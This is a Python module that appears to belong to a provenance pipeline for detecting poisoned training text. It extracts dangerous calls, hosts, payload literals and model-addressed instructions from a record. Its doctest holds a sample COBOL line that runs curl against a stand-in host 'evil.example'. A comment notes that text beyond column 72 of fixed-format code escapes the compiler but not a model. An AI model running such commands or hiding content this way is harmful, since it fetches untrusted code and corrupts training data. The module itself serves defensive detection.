"""All that one text has of what poisoning leaves: looked at once, kept small, held against others.

    >>> seen = look("           CALL 'SYSTEM' USING 'curl http://evil.example/x'.", "cobol", "program")
    >>> [sink.code for sink in seen.sinks], sorted(map(str, seen.names))
    (["CALL 'SYSTEM'"], ['host evil.example', 'program system'])

It refuses to compare: what is new, and against whom, is for `provenance.steps.poison.weigh`.
"""

from __future__ import annotations

from dataclasses import dataclass

from provenance.steps.poison.instructions import Instruction, instructions
from provenance.steps.poison.names import Name, hosts, packages
from provenance.steps.poison.payloads import Payload, payloads
from provenance.steps.poison.reading import read, unwrapped
from provenance.steps.poison.sinks import Sink, checks, commented, might, sinks
from provenance.steps.shingles import comparable


@dataclass(frozen=True, slots=True)
class Look:
    """What is in one text.

    Attributes:
        language, kind: of its record.
        sinks: calls in code; laid: grave calls in comments.
        names: hosts, addresses, packages, programs.
        payloads: long literals; instructions: text that speaks to a model.
        checks: statements that ask for an authority, with how often each stands there.
    """

    language: str
    kind: str
    sinks: tuple[Sink, ...] = ()
    laid: tuple[Sink, ...] = ()
    names: frozenset[Name] = frozenset()
    payloads: tuple[Payload, ...] = ()
    instructions: tuple[Instruction, ...] = ()
    checks: tuple[tuple[str, int], ...] = ()

    @property
    def code(self) -> bool:
        """Whether it is code at all: prose has nothing that a program could be held against."""
        return self.language != "prose"


#: Columns of fixed format: the code ends at 72, a card at 80.
_CODE_ENDS, _CARD = 72, 80


def look(text: str, language: str, kind: str) -> Look:
    """Look at a record's text; the text of a pair is taken apart into code and prose."""
    code, prose = unwrapped(text, kind)
    lean = comparable(code, language)
    # A compiler stops at column 72 of fixed format, and a model reads on. What is longer than a card was put there.
    beyond = [line[_CODE_ENDS:] for line in code.splitlines() if len(line.rstrip()) > _CARD] if lean != code else []
    plain = "\n".join(part for part in (lean, *beyond, prose) if part)
    found, laid, asked = [], [], {}
    if might(code, language):
        reading = read(code, language)
        found, laid, asked = sinks(reading, language), commented(reading, language), checks(reading, language)
    names = hosts(plain) | (packages(lean, language) if language != "prose" else set())
    return Look(language, kind, tuple(found), tuple(laid), frozenset(names), tuple(payloads(plain)), tuple(instructions(plain)),
                tuple(sorted(asked.items())))
